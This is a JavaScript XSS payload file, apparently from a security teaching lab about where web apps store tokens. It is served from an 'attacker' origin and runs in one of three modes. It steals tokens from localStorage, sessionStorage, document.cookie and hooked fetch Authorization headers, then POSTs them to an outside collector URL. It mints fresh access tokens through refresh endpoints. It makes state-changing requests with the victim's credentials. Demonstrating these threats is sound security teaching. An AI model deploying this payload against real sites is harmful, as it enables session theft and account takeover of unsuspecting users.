// The XSS payload (served by the ATTACKER's origin, pulled into the victim page by an injected
// <script src>). data-kind says which threat it shows:
//   steal  read every token the page can reach (storage, document.cookie, and any Authorization
//          header the page's own fetch() calls carry) and send it to the attacker's collector
//   mint   call a refresh endpoint from the page and send the new access token away
//   ride   make a state-changing call from the page with whatever credential the page has,
//          the HttpOnly cookie included (the browser attaches it; the script never reads it)
(function () {
  const me = document.currentScript;
  const { kind, run, collect } = me.dataset;
  const realFetch = window.fetch.bind(window);
  const seen = {};
  // Wrap fetch: the app's own calls hand their Authorization header to the payload.
  window.fetch = function (input, init) {
    const headers = (init && init.headers) || {};
    const auth = headers.Authorization || headers.authorization;
    if (auth) seen.authorization = String(auth).replace(/^Bearer /, "");
    return realFetch(input, init);
  };
  const send = (found) => realFetch(collect, {
    method: "POST", mode: "no-cors", body: JSON.stringify({ run, kind, found }),
  });
  const stored = (pattern) => {
    const out = {};
    for (const [name, st] of [["localStorage", localStorage], ["sessionStorage", sessionStorage]]) {
      for (const k of Object.keys(st)) if (pattern.test(k)) out[`${name}.${k}`] = st.getItem(k);
    }
    return out;
  };
  const ready = () => new Promise((resolve) => {
    const t = setInterval(() => {
      if (document.body && document.body.dataset.ready) { clearInterval(t); resolve(); }
    }, 50);
  });
  async function mint() {
    const found = {};
    const refresh = Object.values(stored(/refresh_token$/))[0];
    if (refresh) {
      const res = await realFetch("/api/jwt/refresh", {
        method: "POST", headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ refresh_token: refresh }),
      });
      if (res.ok) found["POST /api/jwt/refresh"] = (await res.json()).access_token;
    }
    const res = await realFetch("/api/attacks/xss/refresh", { method: "POST" });
    if (res.ok) found["POST /api/attacks/xss/refresh (HttpOnly cookie)"] = (await res.json()).access_token;
    return found;
  }
  ready().then(async () => {
    if (kind === "steal") {
      const found = stored(/token/);
      if (document.cookie) found["document.cookie"] = document.cookie;
      if (seen.authorization) found["Authorization (fetch wrapped)"] = seen.authorization;
      await send(found);
    } else if (kind === "mint") {
      await send(await mint());
    } else if (kind === "ride") {
      const token = Object.values(stored(/access_token$/))[0] || seen.authorization
        || Object.values(await mint())[0];
      const headers = { "X-Lab-Payload": "ride" };
      if (token) headers.Authorization = `Bearer ${token}`;
      const res = await realFetch(`/api/attacks/xss/runs/${run}/act`, { method: "POST", headers });
      await send({ "act status": String(res.status) });
    }
  });
})();
